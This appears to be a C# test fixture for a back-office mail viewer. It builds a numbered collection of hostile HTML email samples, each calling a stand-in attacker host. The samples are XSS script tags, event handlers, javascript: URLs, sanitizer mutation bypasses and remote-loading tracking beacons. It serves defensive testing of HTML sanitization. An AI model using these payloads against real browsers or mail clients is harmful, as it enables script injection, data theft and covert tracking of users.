namespace BackOffice.Browser.Tests;

/// <summary>
/// HTML that would run something or call somewhere if it were shown as it came: one of each kind that is known, written for
/// this test. <c>JS</c> stands for a script that says so and calls out, <c>EVIL</c> for an address of the attacker.
/// </summary>
static class HostileMails
{
    const string Script = "console.log('PWNED #');new Image().src='http://evil.test/#/js'";

    /// <summary>By number: the address that each calls tells which one it was.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Kinds.Select((html, n) => html.Replace("JS", Script, StringComparison.Ordinal).Replace("EVIL", "http://evil.test/#", StringComparison.Ordinal).Replace("#", n.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal))];

    static string[] Kinds =>
    [
        // Scripts
        "<script>JS</script>", "<SCRIPT SRC=EVIL/s.js></SCRIPT>", "<script type=module>JS</script>", "<script\t\n/x>JS</script >", "<<script>JS//<</script>", "<scr<script>ipt>JS</scr</script>ipt>",
        "<!--><script>JS</script>-->", "<!-- --!><script>JS</script>", "<title><script>JS</script></title>", "<textarea></textarea><script>JS</script>", "<base href=\"javascript:/a/-\"><a id=a href=./>x</a><script src=s.js></script>",
        // Handlers
        "<img src=x onerror=\"JS\">", "<img/src/onerror=\"JS\">", "<img src=x OnErRoR=\"JS\">", "<body onload=\"JS\">", "<svg onload=\"JS\"></svg>", "<svg/onload=\"JS\">", "<details open ontoggle=\"JS\">x</details>",
        "<video><source onerror=\"JS\"></video>", "<audio src=x onerror=\"JS\">", "<input autofocus onfocus=\"JS\">", "<select autofocus onfocus=\"JS\"></select>", "<textarea autofocus onfocus=\"JS\"></textarea>",
        "<marquee onstart=\"JS\">x</marquee>", "<div style=\"animation:x 1s\" onanimationstart=\"JS\">x</div><style>@keyframes x{}</style>", "<div contenteditable tabindex=1 autofocus onfocus=\"JS\">x</div>", "<iframe onload=\"JS\"></iframe>",
        "<object data=\"data:text/html,x\" onload=\"JS\"></object>", "<link rel=stylesheet href=\"data:text/css,\" onload=\"JS\">", "<style onload=\"JS\"></style>",
        // Addresses that run
        "<iframe src=\"javascript:JS\"></iframe>", "<iframe srcdoc=\"<script>JS</script>\"></iframe>", "<iframe src=\"data:text/html,<script>JS</script>\"></iframe>", "<embed src=\"data:text/html,<script>JS</script>\">", "<object data=\"javascript:JS\"></object>",
        "<a href=\"javascript:JS\">x</a>", "<a href=\"jAvAsCrIpT&colon;JS\">x</a>", "<a href=\"java&#x0A;script:JS\">x</a>", "<a href=\" &#14; javascript:JS\">x</a>", "<form action=\"javascript:JS\"><input type=submit></form>", "<img src=\"javascript:JS\">",
        // SVG, MathML and what breaks out of a sanitizer's reading (mutation)
        "<svg><script>JS</script></svg>", "<svg><animate onbegin=\"JS\" attributeName=x dur=1s></svg>", "<svg><a xlink:href=\"javascript:JS\"><text x=20 y=20>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>JS</script>\"></iframe></foreignObject></svg>",
        "<math><mi//xlink:href=\"data:x,<script>JS</script>\"></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=JS&gt;\"></mglyph></table></mtext></math>", "<svg></p><style><a id=\"</style><img src=1 onerror='JS'>\"></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror='JS'>\"></noscript>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"JS\"></style></mglyph></form>", "<template><img src=x onerror=\"JS\"></template><script>document.body.append(document.querySelector('template').content)</script>", "<xmp><p title=\"</xmp><img src=x onerror='JS'>\"></xmp>",
        // Calling out without a script
        "<img src=\"EVIL/pixel.gif\">", "<img srcset=\"EVIL/set.gif 1x\">", "<picture><source srcset=\"EVIL/pic.webp\"><img src=x></picture>", "<video poster=\"EVIL/poster.gif\" src=\"EVIL/v.mp4\" autoplay></video>", "<audio src=\"EVIL/a.mp3\" autoplay></audio>",
        "<link rel=stylesheet href=\"EVIL/s.css\">", "<link rel=prefetch href=\"EVIL/p\"><link rel=icon href=\"EVIL/i.ico\">", "<style>@import url(EVIL/i.css);body{background:url(EVIL/bg.gif)}</style>", "<style>@font-face{font-family:e;src:url(EVIL/f.woff2)}p{font-family:e}</style><p>x</p>",
        "<div style=\"background:url('EVIL/bg.gif')\">x</div>", "<div style=\"background-image:image-set('EVIL/set.gif' 1x);list-style:url(EVIL/l.gif)\">x</div>", "<table background=\"EVIL/t.gif\"><tr><td background=\"EVIL/td.gif\">x</td></tr></table>", "<body background=\"EVIL/b.gif\">",
        "<iframe src=\"EVIL/frame\"></iframe>", "<object data=\"EVIL/o.swf\"></object>", "<embed src=\"EVIL/e.swf\">", "<meta http-equiv=refresh content=\"0;url=EVIL/refresh\">", "<base href=\"EVIL/\"><img src=\"x.gif\">", "<input type=image src=\"EVIL/in.gif\">",
        "<svg><image href=\"EVIL/svg.gif\" width=9 height=9></image><use href=\"EVIL/u.svg#x\"></use></svg>", "<form id=f action=\"EVIL/form\"><input name=a value=b autofocus onfocus=\"f.submit()\"></form>", "<img src=\"cid:x\" style=\"content:url(EVIL/c.gif)\">", "<script>location='EVIL/go'</script>",
        "<a href=x ping=\"EVIL/ping\">x</a><img src=\"//evil.test/#/protocol-less.gif\">", "<p style=\"--x:url(EVIL/v.gif);background:var(--x)\">x</p>", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'><image href='EVIL/in.svg'/></svg>\">",
    ];
}
